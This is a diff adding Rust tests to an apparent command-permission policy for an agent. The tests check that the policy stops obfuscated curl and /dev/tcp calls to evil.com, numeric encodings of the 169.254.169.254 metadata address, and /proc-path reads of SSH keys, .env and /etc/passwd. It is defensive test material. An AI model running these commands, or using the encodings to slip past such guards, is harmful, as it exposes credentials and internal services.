@@ -168,3 +168,61 @@ fn an_option_takes_a_value_only_as_the_program_reads_it() {
     ]);
     assert_allowed(&["bash -euo pipefail -c ls", "bash -lc ls", "bash -ec ls", "sh -xc ls", "find . -name x"]);
 }
+
+#[test]
+fn a_host_is_found_however_it_is_written() {
+    assert_stopped(&[
+        "curl HTTP://evil.com",
+        "curl ftp://evil.com/x",
+        "curl https://user:pw@evil.com/",
+        "curl https://a.com,https://evil.com",
+        "curl --url=https://a.com/https://evil.com",
+        "curl localhost:80",
+        "curl localhost",
+        "curl -xevil.com:80 https://a.com",
+        "curl 'http://{evil.com,a.com}'",
+        "curl http://evil.com/?q=1",
+        "cat < /dev/tcp/evil.com/80",
+        "exec 3<>/dev/tcp/evil.com/80",
+        "curl 2852039166",
+        "curl http://0xa9fea9fe/",
+        "curl 'http://[::ffff:a9fe:a9fe]/'",
+        "git clone git@evil.com:x",
+    ]);
+    assert_allowed(&["curl https://a.com", "git fetch origin", "head -n 50 x", "curl 'http://a.com/?q=1'"]);
+    for url in ["http://2852039166/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/"] {
+        let decision = policy(OPEN).judge(&request(RequestAction::Fetch { url: url.to_owned() }));
+        assert_eq!(decision.verdict, Verdict::Deny, "{url}: {decision}");
+    }
+    let rules = "[[rules]]\nallow = \"shell\"\n[[rules]]\ndeny = \"fetch\"\nhost = \"*\"\n";
+    assert_eq!(verdict(rules, "git status"), Verdict::Allow);
+    assert_eq!(verdict(rules, "curl localhost:80"), Verdict::Ask);
+}
+
+#[test]
+fn a_command_or_file_with_very_many_words_or_patterns_is_not_read_to_the_end() {
+    let rules = "[[rules]]\nallow = \"shell\"\n[[rules]]\ndeny = \"shell\"\ncommand = \"rm *\"\n";
+    assert_eq!(verdict(rules, &format!("ls{}", " a".repeat(5_000))), Verdict::Ask);
+    assert_eq!(verdict(rules, &format!("rm{}", " a".repeat(5_000))), Verdict::Deny);
+    let paths: String = (0..4_000).map(|at| format!(" a{at}=b{at}")).collect();
+    assert_eq!(verdict(rules, &format!("ls{paths}")), Verdict::Ask);
+    let patterns = vec!["\"ls\""; 1_000].join(",");
+    let text = format!("[[rules]]\nallow = \"shell\"\ncommand = [{patterns}]\n").repeat(5);
+    let error = grove_policy::RuleSet::parse_repository(&text, "p").unwrap_err();
+    assert!(error.problem.contains("4000 patterns"), "{error}");
+}
+
+#[test]
+fn a_path_through_a_process_may_be_any_path() {
+    assert_stopped(&[
+        "cat /proc/self/root/home/dev/.ssh/id_rsa",
+        "cat /proc/1/cwd/.env",
+        "cat /proc/*/root/etc/passwd",
+        "cd /proc/self && cat root/etc/passwd",
+        "cat ../../proc/self/fd/3",
+        "echo x > /dev/fd/3",
+    ]);
+    assert_allowed(&["cat /proc/cpuinfo"]);
+    let read = RequestAction::Read { paths: vec!["/proc/self/root/etc/passwd".into()] };
+    assert_eq!(policy(OPEN).judge(&request(read)).verdict, Verdict::Ask);
+}
